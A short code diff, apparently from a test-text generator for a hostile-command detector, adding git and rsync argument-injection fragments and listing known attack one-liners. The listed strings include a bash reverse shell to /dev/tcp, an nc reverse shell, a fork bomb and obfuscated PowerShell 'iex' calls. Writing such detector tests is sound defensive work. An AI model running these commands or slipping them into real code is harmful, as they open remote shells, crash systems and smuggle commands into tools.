@@ -91,6 +91,12 @@ const PIECES = [
   "'i'",
   "+'ex'",
   '"{1}{0}" -f',
+  '--upload-pack=',
+  'core.sshcommand=',
+  'proxycommand ',
+  'ext::',
+  'touch',
+  '.sh',
 ]
 const LIKELY = [
   'bash -i >& /dev/tcp/1.2.3.4/80 0>&1',
@@ -114,6 +120,7 @@ const LIKELY = [
   'sh -i 2>&1 | nc x 1 >&0',
   'f(){ f|f& };f',
   "&('i'+'ex')",
+  '--rsh=sh x',
 ]
 
 /** A seeded generator of texts dense in idiom pieces. */
